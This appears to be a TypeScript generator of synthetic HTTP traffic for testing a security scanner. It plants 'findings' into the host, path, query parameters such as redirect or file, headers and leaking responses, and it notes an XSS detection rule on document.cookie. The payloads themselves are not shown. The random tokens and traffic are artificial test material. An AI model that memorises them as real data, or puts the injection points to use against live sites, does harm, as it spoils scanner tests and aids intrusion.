    `</main>\n<footer><p>&copy; 2024 Example Shop. ${words(rng, 10)}.</p></footer>\n<script src="/static/js/main.${rng.chars(HEX, 8)}.js" defer></script>\n</body>\n</html>\n`,
  );
  return parts.join('');
}

function minifiedJs(rng: Rng): string {
  const parts = [`/*! app v${rng.between(1, 9)}.${rng.between(0, 30)}.${rng.between(0, 9)} | MIT */\n!function(){"use strict";`];
  for (let i = rng.between(20, 120); i > 0; i--) {
    const v = rng.chars('abcdefghijklmnopqrstuvwxyz', 1);
    parts.push(
      rng.pick([
        `var ${v}=function(${v}e,t){return ${v}e&&t?${v}e.concat(t):[]};`,
        `function ${v}${rng.chars(ALNUM, 2)}(e){if(!e)throw new Error("invalid argument");return Object.keys(e).map(function(t){return e[t]})}`,
        `document.querySelectorAll(".${rng.pick(['card', 'btn', 'nav', 'price'])}").forEach(function(e){e.addEventListener("click",${v})});`,
        `fetch("/api/v1/${rng.pick(RESOURCES)}",{method:"GET",credentials:"include"}).then(function(e){return e.json()});`,
        `for(var i=0;i<${v}.length;i++){${v}[i]=${v}[i]*${rng.between(2, 64)}|0}`,
      ]),
    );
  }
  // Consent and analytics code reads cookies: an XSS rule on document.cookie fires on ordinary scripts.
  if (rng.chance(0.3))
    parts.splice(
      rng.between(1, parts.length),
      0,
      'var ck=document.cookie.split("; ").reduce(function(e,t){var n=t.split("=");return e[n[0]]=n[1],e},{});',
    );
  parts.push('}();\n');
  return parts.join('');
}

function date(t: number): string {
  return new Date(t).toUTCString();
}

export interface HttpCorpusStats {
  /** Request/response pairs begun (the last may be cut). */
  exchanges: number;
  /** Planted findings, by `PlantKind.name`. */
  plants: Record<string, number>;
  plantCount: number;
  /** Bytes of binary bodies (images, gzip): random on the wire. */
  binaryBytes: number;
}

/**
 * HTTP/1.1 traffic, `bytes` long exactly (the last message is cut where the size ends), generated from `seed`.
 */
export function httpCorpus(bytes: number, seed = HTTP_SEED): Uint8Array {
  return httpCorpusWithStats(bytes, seed).data;
}

/** `httpCorpus` with what went into it. */
export function httpCorpusWithStats(bytes: number, seed = HTTP_SEED): { data: Uint8Array; stats: HttpCorpusStats } {
  const rng = new Rng(seed);
  const w = new Writer(bytes);
  const stats: HttpCorpusStats = { exchanges: 0, plants: {}, plantCount: 0, binaryBytes: 0 };
  let clock = Date.UTC(2024, 4, 13, 9, 0, 0);
  let nextPlantAt = rng.between(8_000, 48_000);
  while (!w.full) {
    clock += rng.between(1, 900);
    const plant = w.pos >= nextPlantAt ? rng.pick(PLANTS) : null;
    if (plant !== null) {
      nextPlantAt = w.pos + rng.between(8_000, 48_000);
      stats.plants[plant.name] = (stats.plants[plant.name] ?? 0) + 1;
      stats.plantCount++;
    }
    const planted = plant === null ? null : plant.make(rng);
    writeExchange(rng, w, clock, plant, planted);
    stats.exchanges++;
  }
  stats.binaryBytes = Math.min(w.binary, bytes);
  return { data: new Uint8Array(w.out.buffer, w.out.byteOffset, bytes), stats };
}

/** One request/response pair carrying an example of `kind`, as the corpus writes it (for tests). */
export function plantedExchange(kind: PlantKind, seed: number): string {
  const rng = new Rng(seed);
  const w = new Writer(1024 * 1024);
  writeExchange(rng, w, Date.UTC(2024, 4, 13, 9, 0, 0), kind, kind.make(rng));
  return w.out.toString('latin1', 0, w.pos);
}

function writeExchange(rng: Rng, w: Writer, clock: number, plant: PlantKind | null, planted: string | null): void {
  const at = (p: Placement) => (plant !== null && plant.place === p ? planted : null);
  let { path, kind } = pathAndQuery(rng);
  const host = at('host') ?? rng.pick(HOSTS);
  if (at('path') !== null) path = at('path')!;
  if (at('query') !== null)
    path = `${path.split('?')[0]}?${rng.pick(['file', 'page', 'redirect', 'url', 'template', 'next'])}=${planted}`;

  const jsonBody = at('request-json');
  const textBody = at('request-text');
  // A leak needs a response with a body: no HEAD, DELETE or OPTIONS for those.
  const leak = at('response-json') !== null || at('response-text') !== null;
  const method =
    jsonBody !== null || textBody !== null
      ? rng.pick(['POST', 'PUT', 'PATCH'])
      : leak
        ? rng.pick(['GET', 'GET', 'POST'])
        : kind === 'api'
          ? rng.weighted([
              [60, 'GET'],
              [20, 'POST'],
              [8, 'PUT'],
              [5, 'PATCH'],
              [5, 'DELETE'],
              [2, 'OPTIONS'],
            ])
          : rng.weighted([
              [92, 'GET'],
              [5, 'POST'],
              [3, 'HEAD'],
            ]);
  const browser = kind !== 'api' || rng.chance(0.4);
  const headers: string[] = [`${method} ${path} HTTP/1.1`, `Host: ${host}`];
  const extra = plant !== null && plant.place === 'header' ? plant.header! : null;
  headers.push(`User-Agent: ${extra === 'User-Agent' ? planted : browser ? rng.pick(BROWSER_UAS) : rng.pick(CLIENT_UAS)}`);
  headers.push(
    `Accept: ${kind === 'api' ? rng.pick(ACCEPTS.slice(1, 4)) : kind === 'image' ? ACCEPTS[4] : kind === 'static' ? rng.pick(ACCEPTS.slice(3)) : ACCEPTS[0]}`,
  );
  if (browser) headers.push(`Accept-Language: ${rng.pick(LANGS)}`, 'Accept-Encoding: gzip, deflate, br');
  if (browser && rng.chance(0.8)) headers.push(`Cookie: ${cookie(rng)}`);
  if (extra === 'Authorization') headers.push(`Authorization: ${planted}`);
  else if (kind === 'api' && rng.chance(0.6))
    headers.push(
      `Authorization: ${rng.chance(0.85) ? `Bearer ${rng.chars(B64URL, rng.pick([32, 40, 64]))}` : `Basic ${Buffer.from(`${rng.pick(FIRST_NAMES).toLowerCase()}:${rng.chars(ALNUM, 12)}`).toString('base64')}`}`,
    );
  if (browser && rng.chance(0.6))
    headers.push(`Referer: https://${at('host') ?? rng.pick(HOSTS)}/${rng.pick(['', 'products', 'search?q=shoes', 'cart'])}`);
  if (extra !== null && extra !== 'User-Agent' && extra !== 'Authorization') headers.push(`${extra}: ${planted}`);
  if (rng.chance(0.3))
    headers.push(
      `X-Request-ID: ${rng.chars(HEX, 8)}-${rng.chars(HEX, 4)}-4${rng.chars(HEX, 3)}-${rng.chars(HEX, 4)}-${rng.chars(HEX, 12)}`,
    );
  if (rng.chance(0.2))
    headers.push(`X-Forwarded-For: ${rng.between(1, 223)}.${rng.below(256)}.${rng.below(256)}.${rng.between(1, 254)}`);

  let body = '';
  if (textBody !== null) {
    body = textBody;
    headers.push(
      `Content-Type: ${textBody.startsWith('<?xml') ? 'application/xml' : rng.pick(['image/gif', 'application/octet-stream', 'text/plain'])}`,
    );
  } else if (
    jsonBody !== null ||
    (method !== 'GET' && method !== 'HEAD' && method !== 'DELETE' && method !== 'OPTIONS' && kind === 'api')
  ) {
    body = requestJson(rng, jsonBody);
    headers.push('Content-Type: application/json');
  } else if (method === 'POST' || method === 'PUT') {
    body = formBody(rng);
    headers.push('Content-Type: application/x-www-form-urlencoded');
  }
  if (body.length > 0) headers.push(`Content-Length: ${body.length}`);
  headers.push(rng.chance(0.9) ? 'Connection: keep-alive' : 'Connection: close');
  w.text(`${headers.join('\r\n')}\r\n\r\n${body}`);

  writeResponse(rng, w, clock, method, kind, at('response-json'), at('response-text'));
}

function writeResponse(
  rng: Rng,
  w: Writer,
  clock: number,
  method: string,
  kind: string,
  leakJson: string | null,
  leakText: string | null,
): void {
  const head = (status: string, type: string | null, length: number | null, more: string[] = []) => {
    const h = [
      `HTTP/1.1 ${status}`,
      `Date: ${date(clock)}`,
      `Server: ${rng.pick(['nginx/1.24.0', 'nginx', 'Apache/2.4.58 (Debian)', 'cloudflare', 'envoy'])}`,
    ];
    if (type !== null) h.push(`Content-Type: ${type}`);
    if (length !== null) h.push(`Content-Length: ${length}`);
    h.push(...more);
    return `${h.join('\r\n')}\r\n\r\n`;
  };
  const cache = () =>
    rng.pick([
      'Cache-Control: no-store',
      'Cache-Control: private, max-age=0',
      'Cache-Control: public, max-age=31536000, immutable',
      'Cache-Control: max-age=600',
    ]);

  if (leakText !== null) {
    w.text(head('200 OK', 'text/plain; charset=utf-8', leakText.length, [cache()]) + leakText);
    return;
  }
  if (method === 'OPTIONS' || method === 'DELETE') {
    w.text(
      head('204 No Content', null, null, [
        'Access-Control-Allow-Origin: https://www.example-shop.com',
        'Access-Control-Allow-Methods: GET, POST, PUT, PATCH, DELETE',
      ]),
    );
    return;
  }
  if (leakJson === null && rng.chance(0.08)) {
    w.text(head('304 Not Modified', null, null, [`ETag: "${rng.chars(HEX, 16)}"`, cache()]));
    return;
  }
  if (leakJson === null && rng.chance(0.03)) {
    w.text(
      head('301 Moved Permanently', 'text/html', 0, [
        `Location: https://www.example-shop.com/${rng.pick(['', 'products', 'account/login'])}`,
      ]),
    );
    return;
  }
  if (leakJson !== null || kind === 'api' || kind === 'collect') {
    const body = kind === 'collect' && leakJson === null ? '' : responseJson(rng, leakJson);
    const more = [cache(), `X-Request-ID: ${rng.chars(HEX, 32)}`];
    if (rng.chance(0.2)) more.push(`Set-Cookie: session=${rng.chars(HEX, 32)}; Path=/; HttpOnly; Secure; SameSite=Lax`);
    w.text(
      head(
        body.length === 0 ? '204 No Content' : '200 OK',
        body.length === 0 ? null : 'application/json; charset=utf-8',
        body.length === 0 ? null : body.length,
        more,
      ) + (method === 'HEAD' ? '' : body),
    );
    return;
  }
  if (kind === 'image' || (kind === 'static' && rng.chance(0.25))) {
    // Compressed and binary payloads: high-entropy bytes, the same on the wire as random data.
    const n = kind === 'image' ? rng.between(1_000, 24_000) : rng.between(3_000, 20_000);
    const type = kind === 'image' ? rng.pick(['image/webp', 'image/jpeg', 'image/png']) : 'application/javascript';
    const more = [cache(), `ETag: "${rng.chars(HEX, 16)}"`];
    if (kind !== 'image') more.push('Content-Encoding: gzip', 'Vary: Accept-Encoding');
    w.text(head('200 OK', type, n, more));
    if (method === 'HEAD') return;
    const magic =
      kind !== 'image'
        ? '\x1f\x8b\x08\x00'
        : type === 'image/png'
          ? '\x89PNG\r\n\x1a\n'
          : type === 'image/jpeg'
            ? '\xff\xd8\xff\xe0\x00\x10JFIF\x00'
            : 'RIFF\x00\x00\x00\x00WEBPVP8 ';
    w.text(magic);
    w.randomBytes(rng, n - magic.length);
    return;
  }
  if (kind === 'static') {
    const js = minifiedJs(rng);
    w.text(
      head('200 OK', 'application/javascript; charset=utf-8', js.length, [cache(), `ETag: "${rng.chars(HEX, 16)}"`]) +
        (method === 'HEAD' ? '' : js),
    );
    return;
  }
  // A page, half the time sent chunked as dynamic pages often are.
  const page = html(rng);
  const more = [
    cache(),
    'Strict-Transport-Security: max-age=63072000; includeSubDomains',
    "Content-Security-Policy: default-src 'self'; script-src 'self' https://www.googletagmanager.com",
  ];
  if (rng.chance(0.3)) more.push(`Set-Cookie: csrftoken=${rng.chars(ALNUM, 32)}; Path=/; Secure; SameSite=Strict`);
  if (method === 'HEAD') {
    w.text(head('200 OK', 'text/html; charset=utf-8', page.length, more));
  } else if (rng.chance(0.5)) {
    w.text(head('200 OK', 'text/html; charset=utf-8', page.length, more) + page);
  } else {
    more.push('Transfer-Encoding: chunked');
    let chunked = '';
    for (let i = 0; i < page.length; ) {
      const n = Math.min(page.length - i, rng.pick([1024, 2048, 4096, 8192]));
      chunked += `${n.toString(16)}\r\n${page.slice(i, i + n)}\r\n`;
      i += n;
    }
    w.text(`${head('200 OK', 'text/html; charset=utf-8', null, more)}${chunked}0\r\n\r\n`);
  }
}
